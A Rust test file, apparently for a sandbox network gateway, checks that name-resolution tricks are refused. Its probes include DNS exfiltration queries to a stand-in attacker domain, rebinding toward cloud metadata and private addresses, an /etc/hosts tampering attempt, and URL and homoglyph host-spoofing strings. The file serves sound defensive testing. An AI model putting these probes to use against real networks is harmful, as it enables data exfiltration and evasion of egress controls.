//! Classes 13 to 17: names. What is attempted stands in tables of their own where containers attempt it, too.

use serde_json::json;

use crate::world::dns::{Data, Reply};
use crate::world::probe::{
    Table, attempt, connect, dns, forward, refused, refused_by_then, socks_name, tcp, udp,
};
use crate::world::servers::Service;
use crate::world::{User, World, at};

#[test]
fn questions_carry_nothing_out() {
    let world = World::new();
    world.dns.answer("www.example.com", &[at::PUBLIC]);
    for user in User::ALL {
        refused(world.run_as(user).allow("www.example.com"), &questions());
    }
}

/// Where `www.example.com` is allowed.
pub(crate) fn questions() -> Table {
    let data = "c2VjcmV0.data.evil.test";
    let mut table: Vec<_> = [1, 28, 5, 10, 12, 15, 16, 33, 64, 65, 255, 252]
        .map(|kind| (dns(data, kind), "denied.default"))
        .to_vec();
    for server in [
        "127.0.0.1",
        "127.0.0.11",
        "127.0.0.53",
        "10.20.0.53",
        "8.8.8.8",
        "::1",
        "2001:4860:4860::8888",
        "172.17.0.1",
    ] {
        table.push((
            json!({"try": "dns", "name": data, "server": server}),
            "denied.default",
        ));
        table.push((
            json!({"try": "dns", "name": data, "server": server, "over": "tcp"}),
            "denied.default",
        ));
    }
    // Names below an allowed one are not allowed, and what is asked about an allowed one stays inside.
    table.push((dns("c2VjcmV0.www.example.com", 1), "denied.default"));
    table.push((dns("www.example.com", 16), ""));
    table.push((dns("www.example.com", 65), ""));
    table
}

#[test]
fn names_below_an_allowed_wildcard_are_answered_without_asking() {
    let world = World::new();
    let attempts: Vec<_> = (0..50)
        .map(|n| dns(&format!("c2VjcmV0-{n}.example.com"), 1))
        .collect();
    let (outcome, ends) = attempt(world.run_as(User::Alice).allow("*.example.com"), &attempts);
    assert!(
        ends.iter().all(|end| end["end"] == "rcode 0 answers 1"),
        "{ends:#?}"
    );
    outcome.silent();
}

#[test]
fn other_name_services_are_shut() {
    let world = World::new();
    world.serve_everywhere(853, Service::Sink);
    world.serve_everywhere(443, Service::Sink);
    for user in User::ALL {
        refused(world.run_as(user), &other_services());
    }
}

/// Where nothing that is named here is allowed.
pub(crate) fn other_services() -> Table {
    vec![
        (tcp("8.8.8.8", 853), "denied.literal_address"),
        (tcp("1.1.1.1", 443), "denied.literal_address"),
        (connect("dns.google:443"), "denied.default"),
        (udp("8.8.8.8", 853), ""),
        (udp("8.8.8.8", 443), ""),
        (udp("224.0.0.251", 5353), ""),
        (udp("ff02::fb", 5353), ""),
        (udp("224.0.0.252", 5355), ""),
        (udp("10.20.0.255", 137), ""),
    ]
}

#[test]
fn a_name_is_not_asked_about_before_it_is_decided() {
    let world = World::new();
    world.dns.answer("evil.test", &[at::PUBLIC]);
    for user in User::ALL {
        refused(world.run_as(user).allow("www.example.com"), &undecided());
    }
}

/// Where `www.example.com` is allowed.
pub(crate) fn undecided() -> Table {
    vec![
        (connect("evil.test:443"), "denied.default"),
        (forward("http://evil.test/"), "denied.default"),
        (socks_name("evil.test", 443), "denied.default"),
        (tcp("evil.test", 443), ""),
        (connect("www.example.com:22"), "denied.port"),
    ]
}

#[test]
fn a_question_is_on_record_before_it_is_asked() {
    let world = World::new();
    world.serve("93.184.216.34:80", Service::Http);
    for user in User::ALL {
        // What is looked up is put on record before the decision that it is for, whatever comes of it.
        for (name, reason) in [("there", "allowed.rule"), ("nowhere", "denied.resolution")] {
            world.dns.answer("there.example.com", &[at::PUBLIC]);
            let host = format!("{name}.example.com");
            let outcome = world
                .run_as(user)
                .allow("*.example.com")
                .client(&format!("curl -s -o /dev/null http://{host}/; true"))
                .ok();
            let about = |event: &str| {
                let found = outcome
                    .records
                    .iter()
                    .position(|record| record["event"] == event && record["host"] == *host);
                found.unwrap_or_else(|| panic!("no {event} about {host}: {outcome:#?}"))
            };
            let (asked, decided) = (about("dns"), about("decision"));
            assert!(asked < decided, "{outcome:#?}");
            let (asked, decided) = (&outcome.records[asked], &outcome.records[decided]);
            assert_eq!(asked["verdict"], "allow", "{outcome:#?}");
            assert_eq!(asked["id"], decided["id"], "{outcome:#?}");
            assert_eq!(decided["reason"], reason, "{outcome:#?}");
        }

        // What cannot be put on record is not asked: each question has its record in a log that becomes full.
        let directory = format!("/srv/full-{}", user.id());
        world.machine.sh(&format!(
            "mkdir {directory}; mount -t tmpfs -o size=8k,mode=777 none {directory}"
        ));
        let log = format!("{directory}/audit.jsonl");
        let script = "
            for n in $(seq 60); do
                curl -s -m 20 -o /dev/null -w '%{http_code}\\n' http://data-$n.example.com/ > answer
                grep -q 502 answer || break
            done
            curl -s -m 8 -o /dev/null http://last.example.com/; true";
        let outcome = world
            .run_as(user)
            .log(None)
            .args(&["--log-file", &log])
            .allow("*.example.com")
            .within(std::time::Duration::from_secs(100))
            .client(script);
        let text = world.machine.read(&log);
        assert!(!outcome.queries.is_empty() && !text.contains("data-60"));
        for query in &outcome.queries {
            assert!(
                text.contains(&format!("\"{}\"", query.name)),
                "{user:?}: {} was asked about, and is not in {text}\n{outcome:#?}",
                query.name
            );
        }
        let late = outcome
            .queries
            .iter()
            .any(|query| query.name.starts_with("last"));
        assert!(!late, "{user:?}: {outcome:#?}");
    }
}

#[test]
fn a_name_with_more_addresses_than_any_honest_one_is_refused() {
    let world = World::new();
    let address = |n: u8| Data::Address([93, 184, 216, n].into());
    world.dns.script(
        "many.example.com",
        vec![Reply::Truncated((1..=200).map(address).collect())],
    );
    world.dns.script(
        "some.example.com",
        vec![Reply::Truncated((30..=45).map(address).collect())],
    );
    world.serve("93.184.216.30:80", Service::Http);
    for user in User::ALL {
        let script = "for name in many some; do curl -s -m 20 -o /dev/null -w '%{http_code} ' http://$name.example.com/; done";
        let outcome = world
            .run_as(user)
            .allow("*.example.com")
            .client(script)
            .ok();
        assert_eq!(outcome.stdout, "502 200 ", "{user:?}: {outcome:#?}");
        outcome.decided("denied.resolution", "many.example.com", 80);
        assert!(!outcome.reached("93.184.216.1", 80), "{outcome:#?}");
    }
}

#[test]
fn an_answer_that_changes_changes_nothing_that_was_vetted() {
    let world = World::new();
    let inside = world.serve("10.20.0.7:80", Service::Sink);
    let metadata = world.serve("169.254.169.254:80", Service::Sink);
    let public = world.serve("93.184.216.34:80", Service::Http);
    for answers in [
        [at::PUBLIC, at::PRIVATE],
        [at::PUBLIC, at::METADATA],
        [at::PUBLIC, "127.0.0.1"],
    ] {
        let replies = answers.map(|address| Reply::records(&[address])).to_vec();
        world.dns.script("rebind.example.com", replies);
        let attempts = [
            connect("rebind.example.com:80"),
            connect("rebind.example.com:80"),
            tcp("rebind.example.com", 80),
        ];
        let (outcome, ends) = attempt(
            world.run_as(User::Alice).allow("rebind.example.com"),
            &attempts,
        );
        assert!(
            ends[0]["data"]
                .as_str()
                .unwrap()
                .starts_with("HTTP/1.1 200"),
            "{outcome:#?}"
        );
        assert!(
            ends[1]["data"]
                .as_str()
                .unwrap()
                .starts_with("HTTP/1.1 403"),
            "{outcome:#?}"
        );
        assert_eq!(ends[2]["data"], "", "{outcome:#?}");
        // What was decided was dialled, and the name was asked about once per connection.
        let first = outcome.events("decision").next().unwrap();
        assert_eq!(first["dialled"], "93.184.216.34:80");
        assert_eq!(
            outcome
                .queries
                .iter()
                .filter(|query| query.kind == crate::world::dns::A)
                .count(),
            3,
            "{outcome:#?}"
        );
    }
    assert_eq!(world.server(public, |server| server.connections()), 3);
    for sink in [inside, metadata] {
        assert_eq!(world.server(sink, |sink| sink.connections()), 0);
    }
}

#[test]
fn one_forbidden_address_spoils_the_whole_answer() {
    let world = World::new();
    let public = world.serve_everywhere(80, Service::Sink);
    for (number, addresses) in [
        &["93.184.216.34", "10.20.0.7"][..],
        &["10.20.0.7", "93.184.216.34"],
        &["93.184.216.34", "151.101.0.81", "127.0.0.1"],
        &["93.184.216.34", "::1"],
        &["2606:2800:220:1::5", "169.254.169.254"],
    ]
    .iter()
    .enumerate()
    {
        let name = format!("mixed{number}.example.com");
        world.dns.answer(&name, addresses);
        refused_by_then(
            world.run_as(User::Alice).allow("*.example.com"),
            &[(connect(&format!("{name}:80")), ""), (tcp(&name, 80), "")],
        );
    }
    assert_eq!(world.server(public, |sink| sink.connections()), 0);
}

#[test]
fn an_alias_does_not_lend_its_name() {
    let world = World::new();
    world
        .dns
        .answer("target.example.net", &[at::PRIVATE])
        .answer("host.docker.internal", &["172.17.0.1"]);
    world
        .dns
        .cname("alias.example.com", "target.example.net")
        .cname("host.example.com", "host.docker.internal");
    let table = [
        (connect("alias.example.com:80"), "denied.address.private"),
        (connect("host.example.com:80"), "denied.address.host"),
        (tcp("alias.example.com", 80), "denied.address.private"),
    ];
    refused_by_then(world.run_as(User::Alice).allow("*.example.com"), &table);
}

#[test]
fn a_name_that_resolves_to_the_gateways_machine_is_refused() {
    let world = World::new();
    let sink = world.serve_on_machine(61081, Service::Sink);
    for (name, address) in [
        ("a.example.com", "45.33.32.10"),
        ("b.example.com", "127.0.0.1"),
        ("c.example.com", "172.17.0.1"),
    ] {
        world.dns.answer(name, &[address]);
        refused_by_then(
            world.run_as(User::Alice).allow("*.example.com:61081"),
            &[
                (connect(&format!("{name}:61081")), ""),
                (tcp(name, 61081), ""),
            ],
        );
    }
    assert_eq!(world.server(sink, |sink| sink.connections()), 0);
}

#[test]
fn addresses_are_never_looked_up_backwards() {
    let world = World::new();
    // Were anybody to ask, the address would turn out to be an allowed name's.
    world
        .dns
        .script("34.216.184.93.in-addr.arpa", vec![Reply::records(&[])]);
    refused(
        world.run_as(User::Alice).allow("www.example.com"),
        &backwards(),
    );
}

/// Where `www.example.com` is allowed.
pub(crate) fn backwards() -> Table {
    vec![
        (tcp(at::PUBLIC, 443), "denied.literal_address"),
        (connect("93.184.216.34:443"), "denied.literal_address"),
        (dns("34.216.184.93.in-addr.arpa", 12), ""),
    ]
}

#[test]
fn search_domains_and_the_sandboxs_own_files_gain_nothing() {
    let world = World::new();
    world.machine.write(
        "/srv/resolv.conf",
        "nameserver 10.20.0.53\nsearch corp.example evil.test\noptions ndots:9\n",
    );
    let table = [
        (tcp("intranet", 80), ""),
        (connect("intranet:80"), "denied.default"),
        (connect("printer.localhost:80"), "denied.address.loopback"),
        (connect("localhost.:80"), "denied.address.loopback"),
        (tcp("printer.localhost", 80), ""),
    ];
    for user in User::ALL {
        let outcome = refused(world.run_as(user), &table);
        // Names are completed inside, if at all.
        assert!(outcome.queries.is_empty());
        let outcome = world.run_as(user).client(
            "echo '10.20.0.7 www.example.com' >> /etc/hosts && echo CHANGED; cat /etc/resolv.conf",
        );
        assert!(!outcome.stdout.contains("CHANGED"), "{outcome:#?}");
        assert!(!outcome.stdout.contains("10.20.0.53"), "{outcome:#?}");
    }
}

#[test]
fn other_spellings_of_a_name_mean_the_same_or_nothing() {
    let world = World::new();
    world.dns.answer("www.example.com", &[at::PUBLIC]);
    world.serve("93.184.216.34:80", Service::Http);
    let same = ["WWW.EXAMPLE.COM", "www.example.com.", "wWw.ExAmPlE.cOm."];
    let attempts: Vec<_> = same
        .iter()
        .map(|name| connect(&format!("{name}:80")))
        .chain(same.iter().map(|name| socks_name(name, 80)))
        .collect();
    let (outcome, ends) = attempt(
        world.run_as(User::Alice).allow("www.example.com"),
        &attempts,
    );
    for end in &ends[..3] {
        assert!(
            end["data"].as_str().unwrap().starts_with("HTTP/1.1 200"),
            "{outcome:#?}"
        );
    }
    assert!(
        outcome
            .reasons()
            .iter()
            .all(|reason| *reason == "allowed.rule"),
        "{outcome:#?}"
    );

    let outcome = refused(
        world.run_as(User::Alice).allow("www.example.com"),
        &spellings(),
    );
    assert!(
        outcome
            .reasons()
            .iter()
            .all(|reason| ["denied.default", "denied.malformed"].contains(reason)),
        "{outcome:#?}"
    );
}

/// Where `www.example.com` is allowed.
pub(crate) fn spellings() -> Table {
    let other = [
        "notwww.example.com",
        "www.example.com.evil.test",
        "wwwexample.com",
        "example.com",
        "a.www.example.com",
        "www.example.co",
        "www.example.com..",
        "www..example.com",
        "ｗｗｗ.example.com.evil.test",
        "www.exаmple.com",
        "www\u{ad}x.example.com",
        "www.example.com\u{200d}x",
        "xn--www-.example.com",
        "www.example.com%2eevil.test",
        "www.example.com@evil.test",
        "evil.test#www.example.com",
        "evil.test?www.example.com",
        "evil.test\\www.example.com",
        "www.example.com\t",
        "[www.example.com]",
        "www.example.com\0",
        "www_example.com",
    ];
    let mut table: Vec<_> = other
        .iter()
        .map(|name| (connect(&format!("{name}:80")), ""))
        .collect();
    table.extend(
        other
            .iter()
            .filter(|name| name.is_ascii())
            .map(|name| (socks_name(name, 80), "")),
    );
    table.push((
        forward("http://evil.test@www.example.com/"),
        "denied.malformed",
    ));
    table.push((
        forward("http://www.example.com@evil.test/"),
        "denied.malformed",
    ));
    table.push((
        forward("http://www.example.com\\@evil.test/"),
        "denied.malformed",
    ));
    table
}
